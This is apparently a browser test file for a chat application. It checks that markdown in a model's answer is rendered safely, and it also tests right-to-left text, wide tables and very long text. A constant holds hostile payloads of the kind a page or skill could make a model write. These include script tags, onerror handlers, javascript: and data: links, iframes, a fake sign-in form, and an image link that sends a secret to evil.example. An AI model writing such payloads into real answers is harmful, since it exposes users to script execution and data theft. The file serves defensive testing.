import { finish, text } from '@palabre/llm-client/scripted-chat-model.double.js';

import { ConsoleBrowser, sidewaysScroll } from '../harness/console.js';
import { ScriptBook } from '../harness/script-book.js';
import { startApp, type TestApp } from '../harness/start-app.js';

const book = new ScriptBook();
let app: TestApp;
let browser: ConsoleBrowser;

beforeAll(async () => {
  app = await startApp(book.replyTo);
  browser = await ConsoleBrowser.launch();
});
afterAll(async () => {
  await browser[Symbol.asyncDispose]();
  await app[Symbol.asyncDispose]();
});
afterEach(() => browser.checkProblems());

/** What a page, a document or a skill may have a model write. */
const hostile = [
  '<img src="https://evil.example/pixel.png" onerror="document.title=\'owned\'">',
  '<script>document.title = "owned"</script>',
  '![a picture](https://evil.example/leak?secret=1)',
  '[click](javascript:document.title="owned")',
  '[click](data:text/html,<script>1</script>)',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">raw</a>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '<svg><animate onbegin="document.title=\'owned\'" attributeName="x" dur="1s"></svg>',
  '[1]: https://evil.example/ "title"',
  '[reference][1] and <https://evil.example/auto> and https://evil.example/bare',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html\n<script>document.title = "owned"</script>\n```',
  '[x](https://evil.example/"onmouseover="document.title=1)',
  '[link](//evil.example/relative)',
].join('\n\n');

async function answered(reply: string, isStreamed: boolean) {
  const page = await browser.open(app.url);
  const pieces = isStreamed ? reply.match(/.{1,7}/gs)! : [reply];
  const question = book.add([...pieces.map(text), text('\n\nThe end.'), finish()]);
  await page.getByRole('textbox', { name: /^Ask / }).fill(question);
  await page.keyboard.press('Enter');
  const answer = page.locator('.answer:not(.live)');
  await answer.getByText('The end.').waitFor();
  return { page, answer };
}

it.each([true, false])(
  'loads nothing, runs nothing and frames nothing, in pieces: %s',
  async (isStreamed) => {
    const { page, answer } = await answered(hostile, isStreamed);
    const found = await answer.evaluate((element) =>
      [...element.querySelectorAll('.markdown *')]
        .filter(
          (part) => !part.matches('div, p, a, strong, em, code, pre, table, thead, tbody, tr, th, td, span'),
        )
        .map((part) => part.outerHTML),
    );
    expect(found).toEqual([]);
    expect(await page.title()).not.toContain('owned');
  },
);

it('leads to addresses of the web alone, tells where, and hands nothing on', async () => {
  const { answer } = await answered(hostile, false);
  const links = await answer.locator('.markdown a').evaluateAll((links) =>
    links.map((link) => ({
      href: link.getAttribute('href') ?? '',
      rel: link.getAttribute('rel'),
      attributes: link.getAttributeNames().toSorted().join(' '),
    })),
  );
  expect(links.length).toBeGreaterThan(3);
  for (const { href, rel, attributes } of links) {
    expect(new URL(href).protocol).toMatch(/^https?:$/);
    expect(rel).toBe('noopener noreferrer nofollow');
    expect(attributes).toMatch(/^(class )?href rel target title$/);
  }
});

it('begins at the right where it is written so, and columns are as wide as their words', async () => {
  const columns = Array.from({ length: 60 }, (_, index) => `column${index}`);
  const table = `| ${columns.join(' | ')} |\n|${'---|'.repeat(60)}\n| ${columns.join(' | ')} |`;
  const { page, answer } = await answered(`مرحبا بكم\n\n- بند\n\nHello.\n\n${table}`, false);
  const directionOf = (text: string) =>
    answer.getByText(text, { exact: true }).evaluate((element) => getComputedStyle(element).direction);
  expect(await directionOf('مرحبا بكم')).toBe('rtl');
  expect(await directionOf('بند')).toBe('rtl');
  expect(await directionOf('Hello.')).toBe('ltr');
  const heights = await answer
    .locator('td')
    .evaluateAll((cells) => cells.map((cell) => (cell as HTMLElement).offsetHeight));
  // One line each; the table is moved by itself.
  expect(Math.max(...heights)).toBeLessThan(60);
  expect(await sidewaysScroll(page)).toBeLessThanOrEqual(0);
});

it('is shown to its end, however long a word or a paragraph is', async () => {
  for (const long of ['x'.repeat(50_000), 'word **bold** '.repeat(8_000)]) {
    const { page, answer } = await answered(long, false);
    const shown = await answer.locator('.markdown').innerText();
    expect(shown.length).toBeGreaterThan(long.length * 0.7);
    expect(await sidewaysScroll(page)).toBeLessThanOrEqual(0);
  }
});
